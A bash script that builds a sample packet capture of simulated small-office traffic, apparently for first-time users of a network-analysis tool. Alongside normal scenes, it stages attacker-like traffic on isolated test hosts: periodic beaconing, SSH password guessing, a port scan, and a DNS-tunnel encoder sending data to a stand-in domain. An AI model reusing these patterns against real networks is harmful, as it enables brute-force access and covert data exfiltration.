# shellcheck shell=bash disable=SC2154,SC2034
# sample/sample.pcap: a quarter of an hour in a small office, for people who try the program for the first time.
# Each scene is recorded by itself; make-sample puts the scenes on one timeline. tests/golden/README.md tells the story.

story_zones() {
  local dir=$work/story-dns zone
  mkdir -p "$dir"
  story_zone() { {
    printf \
      '$TTL 300\n@ SOA ns1.office.example. admin.office.example. 1 7200 900 1209600 300\n  NS ns1.office.example.\n'
    cat
  } >"$dir/$1"; }
  story_zone office.example <<'ZONE'
ns1  A 198.51.100.53
mail A 198.51.100.25
     MX 10 mail
@    MX 10 mail
     A 198.51.100.80
git  A 198.51.100.22
time A 198.51.100.123
www  A 198.51.100.80
     AAAA 2001:db8:2::80
ZONE
  story_zone news.example <<'ZONE'
www    CNAME edge
edge   A 198.51.100.81
       AAAA 2001:db8:2::81
images A 198.51.100.81
ZONE
  story_zone software.example <<<'dl A 198.51.100.82'
  story_zone metrics-cdn.example <<<'px7 A 198.51.100.83'
  story_zone sync-update.example <<<'*.d TXT "aWYgeW91IGNhbiByZWFkIHRoaXMgeW91IGFyZSBhbiBhbmFseXN0"'
  {
    printf \
      'options { directory "%s"; pid-file none; session-keyfile "%s/key"; listen-on { 198.51.100.53; }; listen-on-v6 { none; };\n' \
      "$dir" "$dir"
    printf 'recursion no; dnssec-validation no; notify no; minimal-responses yes; };\ncontrols { };\n'
    for zone in office.example news.example software.example metrics-cdn.example sync-update.example; do
      printf 'zone "%s" { type primary; file "%s"; };\n' $zone $zone
    done
  } >"$dir/named.conf"
}

story_web() {
  local dir=$work/story-www
  mkdir -p "$dir" "$work/story-nginx"
  "$python" "$parts/make-bodies" "$dir"
  # a program file of 100 KB that does not compress, the same on every run
  "$python" -c "
import hashlib, sys
head = open(sys.argv[1] + '/program.exe', 'rb').read()
body = b''.join(hashlib.sha256(b'sample %d' % n).digest() for n in range(3000))
open(sys.argv[1] + '/setup-2.4.exe', 'wb').write(head + body)" "$dir"
  chmod -R a+rX "$work"
  cat >"$work/story-nginx/nginx.conf" <<CONF
user root; daemon off; worker_processes 1; pid $work/story-nginx/pid; error_log stderr;
events { worker_connections 64; }
http {
  include /etc/nginx/mime.types; access_log off; root $dir; client_body_temp_path $work/story-nginx/b; proxy_temp_path $work/story-nginx/p;
  fastcgi_temp_path $work/story-nginx/f; uwsgi_temp_path $work/story-nginx/u; scgi_temp_path $work/story-nginx/s;
  server { listen 198.51.100.80:80; listen [2001:db8:2::80]:80; server_name www.office.example;
    location /login { return 302 /index.html; } location / { add_header Set-Cookie "sid=4711"; } }
  server { listen 198.51.100.81:80; return 301 https://\$host\$request_uri; }
  server { listen 198.51.100.81:443 ssl http2; listen [2001:db8:2::81]:443 ssl http2; ssl_certificate $work/pki/news.crt; ssl_certificate_key $work/pki/news.key; }
  server { listen 198.51.100.82:80; }
  server { listen 198.51.100.83:80; server_tokens off; location /p { default_type image/gif; return 200 "GIF89a"; } }
}
CONF
}

# scene NAME COMMAND...: everything on the office network while COMMAND runs, except what IPv6 says by itself
scene() {
  (
    out=$work/story names=('*')
    record "$1" 'not icmp6 and not ip6 proto 0 and not (icmp and icmp[0] == 3)' "${@:2}"
  )
}

browse() {
  on_host "$1" curl -sS -m 10 -k -o /dev/null -A \
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' "${@:2}"
}
beacon() {
  on_host kiosk curl -sS -m 10 -o /dev/null -A 'Mozilla/4.0 (compatible)' \
    "http://px7.metrics-cdn.example/p?h=kiosk&n=$1"
}
story_mail() {
  on_host alice swaks --silent 3 --server mail.office.example --helo laptop-alice.office.example --from \
    alice@office.example --to bob@office.example --h-X-Mailer 'Office Mail 3' "$@" || true
}
story_ssh() {
  on_host "$1" ssh -F none -4 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes \
    "${@:2}"
}
guess() {
  local n
  for n in 1 2 3; do on_host kiosk sshpass -p "guess$n" ssh -F none -o StrictHostKeyChecking=no -o \
    UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 admin@198.51.100.22 true \
    || true; done
}
story_tunnel() {
  on_host kiosk "$python" - <<'PY'
import hashlib, socket, struct
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(1)
for number in range(160):
    text = hashlib.sha512(b'piece %d' % number).hexdigest()
    labels = (text[:56], text[56:112], '%04x' % number, 'd', 'sync-update', 'example')
    name = b''.join(bytes([len(label)]) + label.encode() for label in labels) + b'\0'
    sock.sendto(struct.pack('>6H', 0x7000 + number, 0x0100, 1, 0, 0, 0) + name + struct.pack('>2H', 16, 1), ('198.51.100.53', 53))
    sock.recv(2000)
PY
}
story_odd_tls() {
  {
    printf 'GET /index.html HTTP/1.0\r\n\r\n'
    sleep 0.3
  } \
    | on_host kiosk timeout 5 openssl s_client -connect 198.51.100.84:8531 -quiet -no_ign_eof -noservername || true
}
story_lookups() {
  local name
  for name in git mail time ns1; do on_host bob dig +tries=1 $name.office.example A; done
  on_host bob dig +tries=1 office.example MX
  on_host bob dig +tries=1 printer.office.example A
}

story_up() {
  local a
  for a in 53 25 22 80 81 82 83 84 123; do address $server s0 198.51.100.$a/24; done
  for a in 80 81; do address $server s0 2001:db8:2::$a/64; done
  host alice 00:00:5e:00:53:21 192.0.2.21 2001:db8:1::21
  host bob 00:00:5e:00:53:22 192.0.2.22 2001:db8:1::22
  host kiosk 00:00:5e:00:53:66 192.0.2.66 2001:db8:1::66
  tls_pki
  tls_cert news prime256v1 '/O=News Daily/CN=www.news.example' 'subjectAltName=DNS:www.news.example,DNS:images.news.example\n' \
    20260101000000Z 20261231235959Z root >>"$work/pki/log" 2>&1
  chmod a+r "$work"/pki/*.key
  story_zones
  story_web
  smtp_conf
  ssh_conf
  mkdir -p "$work/ntp"
  printf 'local stratum 3\nallow\nbindaddress 198.51.100.123\ncmdport 0\npidfile %s\n' "$work/ntp/story.pid" \
    >"$work/ntp/story.conf"
  serve story-dns ip netns exec $server named -g -n 1 -c "$work/story-dns/named.conf"
  serve story-nginx ip netns exec $server nginx -c "$work/story-nginx/nginx.conf"
  serve story-exim ip netns exec $server exim4 -C "$work/exim/exim.conf" -bdf -oX '<; [198.51.100.25]:25'
  serve story-sshd ip netns exec $server /usr/sbin/sshd -D -e -f "$work/ssh/sshd_config"
  serve story-chrony ip netns exec $server chronyd -x -d -u root -f "$work/ntp/story.conf"
  serve story-dhcp ip netns exec $router dnsmasq -k --conf-file=/dev/null --port=0 --user=root --interface=r0 --bind-interfaces --pid-file= \
    --dhcp-range=192.0.2.21,192.0.2.21,1h --dhcp-authoritative --dhcp-leasefile="$work/story-leases" --no-ping \
    --dhcp-option=option:domain-name,office.example
  serve story-tls ip netns exec $server env -C "$work/story-www" openssl s_server -accept 198.51.100.84:8531 -cert "$work/pki/self.crt" \
    -key "$work/pki/self.key" -WWW -quiet -tls1_2
  for a in '53 53' '80 80' '81 443' '25 25' '22 22' '84 8531'; do wait_port "198.51.100.${a% *}" "${a#* }"; done
}

group_sample() {
  wanted sample/sample || return 0
  [[ -d $work/ssh ]] && rm -rf "$work/ssh"
  mkdir -p "$work/story" "$work/www" "$out/sample"
  story_up
  local n
  scene dhcp on_host alice udhcpc -i eth0 -f -q -n -t 3 -T 1 -s /bin/true -x hostname:laptop-alice
  scene time on_host alice chronyd -x -Q -t 5 -f /dev/null 'server 198.51.100.123 iburst maxsamples 2' 'cmdport 0' \
    "pidfile $work/ntp/alice.pid"
  scene ping on_host alice ping -n -c 3 -i 0.2 192.0.2.1
  scene intranet browse alice http://www.office.example/ http://www.office.example/style.css \
    http://www.office.example/picture.png
  scene login browse alice -L http://www.office.example/login -d 'user=alice&password=sunshine' -e \
    http://www.office.example/
  scene news browse alice -L --http2 http://www.news.example/
  scene news-pictures browse bob --http2 https://www.news.example/ https://images.news.example/photo.jpg \
    https://images.news.example/picture.png
  scene news-v6 browse bob --http1.1 -6 https://www.news.example/feed.xml
  scene intranet-v6 browse bob -6 http://www.office.example/data.json
  scene lookups story_lookups
  scene mail story_mail --auth PLAIN --auth-user alice --auth-password secret --h-Subject 'The figures for =?utf-8?Q?M=C3=A4rz?=' --body 'See the file.' \
    --attach-type application/zip --attach-name figures.zip --attach "@$work/story-www/archive.zip"
  scene mail-hidden story_mail --tls --h-Subject 'Hidden' --body 'Under TLS.'
  scene mail-refused story_mail --to nobody@office.example --h-Subject 'Nobody home'
  scene shell story_ssh bob -i "$work/ssh/user" root@198.51.100.22 'echo hello; sleep 0.3; echo done'
  scene download browse bob http://dl.software.example/setup-2.4.exe
  for n in $(seq -w 0 13); do scene "beacon-$n" beacon "$n"; done
  scene guesses guess
  scene scan on_host kiosk "$python" "$parts/flow-talk" scan 198.51.100.80 75
  scene tunnel story_tunnel
  scene odd-tls story_odd_tls
  "$python" "$parts/make-sample" "$work/story" "$out/sample/sample.pcap"
  note "sample/sample: $(stat -c %s "$out/sample/sample.pcap") bytes"
}
